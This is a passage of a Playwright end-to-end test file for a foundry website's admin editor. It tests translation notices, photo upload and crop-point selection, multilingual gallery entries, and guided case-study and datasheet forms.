  await expect(editor.getByRole("status")).toContainText(filled(words.edit.saved));
  // Out of date, at that field, for the translator.
  await translator.goto("/admin/edit/ar/not-found");
  await expect(
    translator.getByText(fillTemplate(words.edit.outdatedCount, { count: 1 }).split(":")[0]!),
  ).toBeVisible();
  const field = translator.locator(".is-outdated").filter({ has: translator.locator(`[name="${name}"]`) });
  await expect(field.getByText(words.edit.form.outdated)).toBeVisible();
  await expectNoViolations(translator, "an out-of-date translation");
  await translator.goto("/admin");
  await expect(translator.getByRole("link", { name: /content\/ar\/not-found\.yaml/ })).toBeVisible();
});

test("a photo taken in the yard goes into its slot: uploaded, shown as the site will crop it, kept", async ({
  page,
}) => {
  await page.setViewportSize({ width: 360, height: 780 });
  // The preview runs React (ui/PhotoCrop.tsx): hydrated as the server rendered it, or React says so.
  const errors: string[] = [];
  page.on("pageerror", (error) => errors.push(error.message));
  page.on("console", (message) => {
    if (message.type() === "error") errors.push(message.text());
  });
  await signIn(page, "marketing@foundry.example");
  await page.getByRole("link", { name: words.nav.photos }).click();
  await expectNoViolations(page, "/admin/photos");
  // The place by its page and what it shows; its file name is small beside it.
  const place = photoPlace("business-trip", "en")!;
  await page.getByRole("link", { name: place.label }).click();
  await expect(page.getByRole("heading", { level: 1 })).toContainText(place.label);
  await expect(page.getByText(/business-trip/).first()).toBeVisible();
  const photo = await sharp({ create: { width: 1600, height: 1200, channels: 3, background: "#5a6b7c" } })
    .jpeg()
    .toBuffer();
  await page
    .getByLabel(words.photos.choose)
    .setInputFiles({ name: "yard.jpg", mimeType: "image/jpeg", buffer: photo });
  await page.getByRole("button", { name: words.photos.upload }).click();
  const preview = page.getByRole("img", { name: words.photos.preview });
  await expect(preview).toBeVisible();
  // Cropped to the slot's shape (3:2) once it has loaded (the server crops it on request).
  await expect
    .poll(() =>
      preview.evaluate((image: HTMLImageElement) => image.naturalWidth / (image.naturalHeight || Infinity)),
    )
    .toBeCloseTo(1200 / 800, 1);
  await expectNoViolations(page, "a photo's preview");
  // The point the crop keeps: chosen, shown, kept with the photo.
  await page.getByLabel(words.photos.points.top, { exact: true }).check();
  await page.getByRole("button", { name: words.photos.look }).click();
  await expect(page.getByRole("img", { name: words.photos.preview })).toHaveAttribute(
    "src",
    /\?focus=0\.5,0$/,
  );
  await expect(page.getByLabel(words.photos.points.top, { exact: true })).toBeChecked();
  // With the script, any point, chosen on the whole photo by a click or the arrow keys, the crop
  // following in the page without a request: cut as the server cuts it (coverCrop), the point as
  // near the middle as the photo allows. The photo (4:3) is taller than the place (3:2): only the
  // crop's height moves.
  const navigations: string[] = [];
  page.on("request", (request) => {
    if (request.isNavigationRequest()) navigations.push(request.url());
  });
  const whole = page.getByRole("button", { name: words.photos.whole });
  // Measured as the page will stay: styled (a loaded machine may take its stylesheet late) and
  // shown by React.
  await page.waitForLoadState("load");
  await expect(whole).toBeVisible();
  const box = (await whole.locator("img").boundingBox())!;
  await whole.click({ position: { x: box.width * 0.25, y: box.height * 0.7 } });
  const focus = page.locator("input[name=focus]");
  await expect
    .poll(async () => (await focus.inputValue()).split(",").map(Number))
    .toEqual([expect.closeTo(0.25, 1), expect.closeTo(0.7, 1)]);
  await expect(page.getByLabel(words.photos.points.top, { exact: true })).not.toBeChecked();
  const cropShown = () =>
    page
      .getByRole("img", { name: words.photos.preview })
      .evaluate((image: HTMLImageElement) => [new URL(image.src).pathname, image.style.objectPosition]);
  // The lowest crop the photo has: a point lower than its middle cannot be kept nearer.
  expect(await cropShown()).toEqual([expect.stringMatching(/\/whole\//), "50% 100%"]);
  // The arrow keys: up from 0.7 in steps of 0.05, to the photo's middle height.
  for (let step = 0; step < 4; step++) await whole.press("ArrowUp");
  await expect(whole).toHaveAccessibleDescription(filled(words.photos.pickAt));
  const [x, y] = (await focus.inputValue()).split(",").map(Number);
  expect(y).toBeCloseTo(0.5, 1);
  expect(await cropShown()).toEqual([
    expect.stringMatching(/\/whole\//),
    `50% ${Math.round(((y! - 4 / 9) / (1 / 9)) * 10000) / 100}%`,
  ]);
  expect(navigations).toEqual([]);
  expect(errors).toEqual([]);
  await expectNoViolations(page, "a photo's preview, its point chosen on the photo");
  await screenshots(page, "photo-preview");
  await page.getByRole("button", { name: words.photos.keep }).click();
  await expect(page.getByRole("status")).toContainText(filled(words.photos.saved));
  expect(readFileSync(join(siteDataDir, "content-history/images/business-trip.jpg")).length).toBe(
    photo.length,
  );
  expect(
    JSON.parse(readFileSync(join(siteDataDir, "content-history/images/focus.json"), "utf8")),
  ).toMatchObject({
    "business-trip": { x: expect.closeTo(x!, 3), y: expect.closeTo(y!, 3) },
  });
  // The media library has it: the company's photo, its pixels, the point its crop keeps.
  await page.getByRole("link", { name: words.nav.media }).click();
  const card = page.locator("#photo-business-trip");
  await expect(card).toContainText(words.media.yours);
  await expect(card).toContainText("1600 × 1200");
  await expect(card).toContainText(`${Math.round(x! * 100)} % · ${Math.round(y! * 100)} %`);
  await expectNoViolations(page, "/admin/media");
  await screenshots(page, "media-library");
});

test("a 42nd gallery photo with its texts in four languages, each language's file given it", async ({
  page,
}) => {
  await signIn(page, "marketing@foundry.example");
  // An Italian page previewed first, so the preview has read the gallery as it is now.
  const preview = async (marker: string) => {
    await page.goto("/admin/edit/it/about");
    await page.setViewportSize({ width: 1440, height: 900 });
    const field = page.locator('[name="f.banner.title"]');
    await field.fill(`${await field.inputValue()} ${marker}`);
    await expect(page.frameLocator('iframe[name="live-preview"]').getByText(marker).first()).toBeVisible({
      timeout: 5000,
    });
  };
  await preview("Zebra");
  await page.goto("/admin/gallery");
  const gallery = (code: string) =>
    (
      parse(readFileSync(join(siteDataDir, "content-history/content", code, "gallery.yaml"), "utf8")) as {
        photos: { name: string; alt: string; category: string }[];
      }
    ).photos;
  const before = gallery("en").length;
  // A new photo goes among its kind: after the last metal-recycling one.
  const lastMetal = gallery("en")
    .map((entry) => entry.category)
    .lastIndexOf("metal");
  const photo = await sharp({ create: { width: 1400, height: 1400, channels: 3, background: "#7c6b5a" } })
    .jpeg()
    .toBuffer();
  await page
    .getByLabel(words.photos.choose)
    .setInputFiles({ name: "liner.jpg", mimeType: "image/jpeg", buffer: photo });
  await page.getByLabel(words.gallery.category).selectOption("metal");
  const alts: Record<string, string> = {
    English: "Mill liner ready for shipping",
    Italiano: "Corazza per mulino pronta per la spedizione",
    Português: "Revestimento de moinho pronto para envio",
    العربية: "بطانة طاحونة جاهزة للشحن",
  };
  for (const [language, alt] of Object.entries(alts))
    await page.getByLabel(words.gallery.alt.replace("{language}", language)).fill(alt);
  await expect(page.getByLabel(words.gallery.alt.replace("{language}", "العربية"))).toHaveAttribute(
    "dir",
    "rtl",
  );
  await page.getByRole("button", { name: words.gallery.addButton }).click();
  // The page opens at the new photo, the notice beside it.
  const added = page.locator("#photo-mill-liner-ready-for-shipping");
  await expect(added.getByRole("status")).toContainText(filled(words.gallery.saved));
  await expect(added.getByText(`${lastMetal + 2}. Mill liner ready for shipping`)).toBeInViewport();
  for (const [code, language] of [
    ["en", "English"],
    ["it", "Italiano"],
    ["pt", "Português"],
    ["ar", "العربية"],
  ] as const) {
    expect(gallery(code)).toHaveLength(before + 1);
    expect(gallery(code)[lastMetal + 1]).toEqual({
      name: "mill-liner-ready-for-shipping",
      category: "metal",
      alt: alts[language],
    });
  }
  await expectNoViolations(page, "/admin/gallery");
  await screenshots(page, "gallery");

  // Moved to the top in one action: its place typed, then Enter.
  await added.getByLabel(words.gallery.position).fill("1");
  await added.getByLabel(words.gallery.position).press("Enter");
  await expect(page.locator("#photo-mill-liner-ready-for-shipping").getByRole("status")).toBeVisible();
  for (const code of ["en", "it", "pt", "ar"])
    expect(gallery(code)[0]?.name).toBe("mill-liner-ready-for-shipping");

  // The live preview of that page still shows what is typed (it broke for every page once a
  // gallery photo had been added: the preview compared with the gallery as it had read it).
  await preview("Okapi");
});

test("a new case study from one form: every field labelled, made as a draft, its photo next", async ({
  page,
}) => {
  await page.setViewportSize({ width: 360, height: 780 });
  // The guided forms run React (ADR 0043): hydrated as the server rendered them, or React says so.
  const errors: string[] = [];
  page.on("pageerror", (error) => errors.push(error.message));
  page.on("console", (message) => {
    if (message.type() === "error") errors.push(`${message.text()} ${message.location().url}`);
  });
  await signIn(page, "marketing@foundry.example");
  await page.getByRole("link", { name: words.nav.files }).click();
  await page.getByRole("link", { name: words.newCaseStudy.link }).click();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(words.newCaseStudy.title);
  await expectNoViolations(page, "/admin/new/case-study");
  const label = (path: (string | number)[]) => fieldText("articles", path, "en").label;
  await page.getByLabel(label(["articles", 0, "customer"]), { exact: true }).fill("A quarry in Portugal");
  await page.getByLabel(label(["articles", 0, "part"]), { exact: true }).fill("Crusher jaws, 2 t");
  await page.getByLabel(label(["entries", 0, "industry"]), { exact: true }).selectOption("mining");
  await page.getByLabel(label(["entries", 0, "grade"]), { exact: true }).fill("ASTM A128 grade C");
  // A reload halfway: what was typed comes back, said so.
  await expect.poll(() => page.evaluate(() => Object.keys(localStorage).length)).toBeGreaterThan(0);
  page.once("dialog", (dialog) => dialog.accept());
  await page.reload();
  await expect(page.locator(".restored")).toBeVisible();
  await expect(page.getByLabel(label(["articles", 0, "customer"]), { exact: true })).toHaveValue(
    "A quarry in Portugal",
  );
  await expect(page.getByLabel(label(["entries", 0, "industry"]), { exact: true })).toHaveValue("mining");
  await page
    .getByLabel(label(["articles", 0, "problem"]), { exact: true })
    .fill("The jaws cracked.\n\nEvery six weeks.");
  await page.getByLabel(label(["articles", 0, "change"]), { exact: true }).fill("A tougher grade.");
  await page.getByLabel(label(["articles", 0, "resultLabel"]), { exact: true }).fill("Jaw life");
  await page.getByLabel(label(["entries", 0, "measured", "unit"]), { exact: true }).selectOption("days");
  // A figure that is none is said at its field once left, and unsaid at the key that mends it.
  const before = page.getByLabel(label(["entries", 0, "measured", "before"]), { exact: true });
  await before.fill("about 40");
  await before.press("Tab");
  await expect(before).toHaveAttribute("aria-invalid", "true");
  await expect(before).toHaveAccessibleDescription(filled(words.edit.form.checkNumber));
  await before.fill("42");
  await expect(before).not.toHaveAttribute("aria-invalid");
  await expect(page.getByText(words.edit.form.checkNumber)).toHaveCount(0);
  await page.getByLabel(label(["entries", 0, "measured", "after"]), { exact: true }).fill("1.200");
  await page.getByLabel(label(["articles", 0, "result"]), { exact: true }).fill("The jaws last far longer.");
  await page.getByLabel(label(["articles", 0, "title"]), { exact: true }).fill("Crusher jaws that last");
  await page
    .getByLabel(label(["articles", 0, "summary"]), { exact: true })
    .fill("A quarry changed to our manganese steel jaws: they now last 1,200 days instead of 42.");
  await page
    .getByLabel(label(["articles", 0, "meta", "title"]), { exact: true })
    .fill("Case Study: Crusher Jaws");
  await page
    .getByLabel(label(["articles", 0, "meta", "description"]), { exact: true })
    .fill(
      "A quarry in Portugal changed to our manganese steel crusher jaws, which now last far longer between changes.",
    );
  await page.getByLabel(label(["articles", 0, "photoAlt"]), { exact: true }).fill("New crusher jaws");
  await page.getByRole("button", { name: words.newCaseStudy.create }).click();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(
    words.newCaseStudy.created.replace("{title}", "Crusher jaws that last"),
  );
  await expectNoViolations(page, "a new case study made");
  // Made: what this browser kept of the form is gone.
  await expect
    .poll(() =>
      page.evaluate(() => Object.keys(localStorage).filter((key) => key.includes("new/case-study"))),
    )
    .toEqual([]);
  expect(errors).toEqual([]);
  const facts = parse(readFileSync(join(siteDataDir, "content-history/content/articles.yaml"), "utf8")) as {
    entries: { name: string; published: boolean; measured?: { after: number } }[];
  };
  expect(facts.entries.at(-1)).toMatchObject({
    name: "crusher-jaws-that-last",
    published: false,
    measured: { after: 1200 },
  });
  await page.getByRole("link", { name: words.newCaseStudy.nextPhoto }).click();
  await expect(page.getByText("article-crusher-jaws-that-last").first()).toBeVisible();
  // A place new with its entry shows no photo yet, and says so: no broken image.
  await expect(page.getByText(words.photos.nothingYet)).toBeVisible();

  // A new datasheet: the same kind of form, its composition one row per element.
  await page.getByRole("link", { name: words.nav.files }).click();

  await page.getByRole("link", { name: words.newDatasheet.link }).click();
  await expect(page.getByRole("heading", { level: 1 })).toHaveText(words.newDatasheet.title);
  await expectNoViolations(page, "/admin/new/datasheet");
  const chromium = page.getByRole("group", { name: "Cr", exact: true });
  await chromium.getByLabel(words.guided.min, { exact: true }).fill("24");
  await chromium.getByLabel(words.guided.max, { exact: true }).fill("28");
  await expect
    .poll(() => page.evaluate(() => Object.keys(localStorage).join(" ")))
    .toContain("new/datasheet");
  page.once("dialog", (dialog) => dialog.accept());
  await page.reload();
  await expect(page.locator(".restored")).toBeVisible();
  await expect(
    page.getByRole("group", { name: "Cr", exact: true }).getByLabel(words.guided.max, { exact: true }),
  ).toHaveValue("28");
  expect(errors).toEqual([]);
});
